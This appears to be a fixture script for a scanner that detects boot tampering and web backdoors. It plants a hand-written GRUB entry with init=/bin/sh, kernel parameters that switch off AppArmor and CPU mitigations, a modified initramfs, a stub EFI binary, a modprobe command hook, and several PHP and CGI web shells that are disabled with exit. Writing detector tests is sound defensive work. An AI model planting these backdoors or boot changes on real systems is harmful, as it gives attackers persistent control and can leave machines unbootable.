# plant: first program of a boot entry | boot-other-init | /boot/grub/grub.cfg | line 3 | /bin/sh
# plant: boot entry written by hand | boot-loader-configuration-edited | /boot/grub/grub.cfg
cat >/boot/grub/grub.cfg <<'CFG'
# planted
menuentry 'Planted' {
  linux /boot/vmlinuz root=/dev/vda1 ro init=/bin/sh
}
CFG
# plant: guard of the kernel off | boot-kernel-guard-off | /etc/default/grub.d/planted.cfg | line 1 | apparmor
# plant: guards against flaws off | boot-mitigations-off | /etc/default/grub.d/planted.cfg | line 2 | mitigations
# plant: debugger of the kernel | boot-debug-access | /etc/default/grub.d/planted.cfg | line 3 | kgdboc
# plant: debugging shell | boot-root-shell | /etc/default/grub.d/planted.cfg | line 4 | systemd.debug-shell
cat >/etc/default/grub.d/planted.cfg <<'CFG'
GRUB_CMDLINE_LINUX="$GRUB_CMDLINE_LINUX apparmor=0"
GRUB_CMDLINE_LINUX="$GRUB_CMDLINE_LINUX mitigations=off"
GRUB_CMDLINE_LINUX="$GRUB_CMDLINE_LINUX kgdboc=ttyS0"
GRUB_CMDLINE_LINUX="$GRUB_CMDLINE_LINUX systemd.debug-shell=1"
CFG
# plant: script of the boot loader | boot-loader-script-foreign | /etc/grub.d/09_planted
printf '#!/bin/sh\n/usr/bin/true\n' >/etc/grub.d/09_planted
chmod 755 /etc/grub.d/09_planted

# plant: file in the initramfs | boot-initramfs-foreign-member | scripts/init-bottom/planted-early | /boot/initrd.img-planted
# plant: changed file in the initramfs | boot-initramfs-changed-member | init | /usr/share/initramfs-tools/init
# plant: table of the firmware | boot-table-override | kernel/firmware/acpi/planted.aml | /boot/initrd.img-planted
planted=$(mktemp -d)
mkdir -p "$planted/early/kernel/firmware/acpi" "$planted/main/scripts/init-bottom"
echo planted >"$planted/early/kernel/firmware/acpi/planted.aml"
cp /usr/share/initramfs-tools/init /usr/share/initramfs-tools/scripts/functions "$planted/main"
mv "$planted/main/functions" "$planted/main/scripts"
echo '# planted' >>"$planted/main/init"
printf '#!/bin/sh\n/usr/bin/true\n' >"$planted/main/scripts/init-bottom/planted-early"
(cd "$planted/early" && find . | cpio --quiet -o -H newc) >/boot/initrd.img-planted
(cd "$planted/main" && find . | cpio --quiet -o -H newc | zstd -q) >>/boot/initrd.img-planted
rm -r "$planted"

# plant: program of the firmware | boot-efi-program-foreign | /boot/efi/EFI/planted/planted.efi
{
  printf 'MZ'
  head -c 58 /dev/zero
  printf '\100\000\000\000PE\000\000\144\206\000\000'
  head -c 12 /dev/zero
  printf '\360\000\042\000\013\002'
  head -c 106 /dev/zero
  printf '\020\000\000\000'
  head -c 128 /dev/zero
} >/boot/efi/EFI/planted/planted.efi

# plant: module that runs a command | boot-modprobe-runs-command | /etc/modprobe.d/planted.conf | line 2
printf '# planted\ninstall planted /usr/bin/true; /usr/bin/printf planted\n' >/etc/modprobe.d/planted.conf

# What a web server would serve. Each script ends before it does anything.
mkdir -p /var/www/html /usr/lib/cgi-bin
# plant: web shell | web-shell | /var/www/html/planted.php | line 2
printf '<?php exit;\nsystem($_GET["c"]);\n' >/var/www/html/planted.php
# plant: web shell in a picture | web-shell | /var/www/html/planted.jpg | line 2
printf 'planted <?php exit;\n@eval($_POST["c"]); ?>\n' >/var/www/html/planted.jpg
# plant: web shell of a shell | web-shell | /usr/lib/cgi-bin/planted | line 3
printf '#!/bin/sh\nexit\neval "$QUERY_STRING"\n' >/usr/lib/cgi-bin/planted
chmod 755 /usr/lib/cgi-bin/planted
# plant: script that hides its code | web-script-foreign-decodes | /var/www/html/planted-hidden.php | line 2
printf '<?php exit;\neval(base64_decode("ZWNobyAxOw=="));\n' >/var/www/html/planted-hidden.php
# plant: code before every script | web-prepends-code | /var/www/html/.user.ini | line 2
printf '; planted\nauto_prepend_file = /var/www/html/planted-hidden.php\n' >/var/www/html/.user.ini
# plant: pictures as code | web-prepends-code | /var/www/html/pictures/.htaccess | line 1
mkdir -p /var/www/html/pictures
echo 'AddType application/x-httpd-php .jpg' >/var/www/html/pictures/.htaccess
# plant: script that takes files | web-upload-anything | /var/www/html/planted-upload.php | line 2
printf '<?php exit;\nmove_uploaded_file($_FILES["f"]["tmp_name"], "x");\n' >/var/www/html/planted-upload.php
chown www-data:www-data /var/www/html/planted-upload.php
